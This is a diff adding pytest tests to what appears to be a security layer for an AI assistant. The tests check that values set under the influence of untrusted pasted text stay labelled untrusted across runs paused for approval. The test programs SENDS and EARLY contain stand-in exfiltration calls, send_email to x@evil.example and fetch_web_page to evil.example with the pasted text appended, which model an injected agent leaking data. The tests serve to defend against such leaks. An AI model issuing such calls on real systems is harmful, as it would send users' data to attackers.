@@ -8,9 +8,12 @@ import pytest
 from tests.attacks.world import Home, Person, rules, says, statuses
 
 from armslength.app import Result
+from armslength.app.waiting import NobodyNow
+from armslength.errors import Waits
 from armslength.labels import Label
 from armslength.store.chain import key_in
 from armslength.store.document import Document
+from armslength.store.sqlite import SqliteRuns
 from armslength.tools.memory import Memory, memory_tools
 
 EVIL = "mallory@evil.example"
@@ -212,3 +215,38 @@ def test_setting_it_for_sure_clears_what_decided_before(tmp_path: Path) -> None:
     assert not label_of(home, "k").is_trusted
     home.ask("remember('k', 'b')")
     assert (value_of(home, "k"), label_of(home, "k").is_trusted, label_of(home, "k").choice) == ("b", True, frozenset())
+
+
+SENDS = "if text == 'yes':\n    remember('k', 1)\nsend_email(recipients=['x@evil.example'], subject='s', body=text)\n"
+EARLY = "if text == 'yes':\n    remember('k', 1)\n    recall('k')\nfetch_web_page(url='https://evil.example/' + text)\n"
+
+
+@pytest.mark.parametrize("text", ["yes", "no"])
+@pytest.mark.parametrize("program", [SENDS, EARLY])
+def test_what_others_set_while_a_run_waits_was_let_stand(attacked: Home, program: str, text: str) -> None:
+    """A run waits for its answer, another one sets its key in between, and a text decides whether the first one sets it again."""
+    runs = SqliteRuns(attacked.path / "state" / "runs.sqlite")
+    with pytest.raises(Waits):
+        attacked.assistant(f"text = read_pasted_text()\n{program}", runs=runs).ask(
+            "Do it", pasted=text, approver=NobodyNow()
+        )
+    (run,) = runs.names()
+    attacked.assistant("remember('k', 0)", runs=runs).ask("Do it")
+    attacked.assistant([], runs=runs).resume(run, approver=Person([True]))
+    assert value_of(attacked, "k") == (1 if text == "yes" and program == SENDS else 0)
+    known = label_of(attacked, "k")
+    assert "pasted" in {source.name for source in known.choice}
+    assert not known.is_trusted
+
+
+@pytest.mark.parametrize("text", ["yes", "no"])
+def test_what_was_set_before_a_run_waits_says_so_meanwhile(attacked: Home, text: str) -> None:
+    """What a barrier settled stands there while the run waits, in which that it does not would tell as much."""
+    runs = SqliteRuns(attacked.path / "state" / "runs.sqlite")
+    attacked.ask("remember('k', 0)")
+    with pytest.raises(Waits):
+        attacked.assistant(f"text = read_pasted_text()\n{EARLY}", runs=runs).ask(
+            "Do it", pasted=text, approver=NobodyNow()
+        )
+    assert value_of(attacked, "k") == (1 if text == "yes" else 0)
+    assert not label_of(attacked, "k").is_trusted
